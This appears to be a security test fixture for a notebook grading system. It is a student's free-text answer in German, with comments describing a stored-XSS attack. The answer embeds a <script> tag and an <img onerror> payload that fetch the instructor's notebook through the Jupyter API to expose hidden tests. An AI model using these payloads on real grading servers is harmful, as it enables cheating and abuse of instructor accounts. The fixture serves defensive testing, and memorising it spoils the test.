# Attack: HTML in a free-text answer. nbconvert renders markdown with raw HTML and no sanitising, so
# <script> and <img onerror=…> from the answer run in the student's feedback page and, worse, in the TA's
# formgrader (same origin as the TA's Jupyter server): with the TA's session the script read
# source/04_cnn/04_cnn.ipynb through /api/contents, hidden tests included (it could as well write files,
# change grades or start a kernel as the grading account).
# threat: run script in the TA's formgrader and in feedback through a free-text answer
# score: 22
# never: <script>document.title = "XSS | onerror="fetch(
# %% frage_vollvernetzt
Weil die Zahl der Gewichte explodiert und die Nachbarschaft der Pixel verloren geht.

<script>document.title = "XSS-SCRIPT"</script>

<img src="x" onerror="fetch('/api/contents/source/04_cnn/04_cnn.ipynb').then(r=>r.json()).then(j=>{var t=JSON.stringify(j.content);var i=t.indexOf('BEGIN HIDDEN TESTS');document.title='XSS '+(i>0?t.substr(i,120):'no access')})">
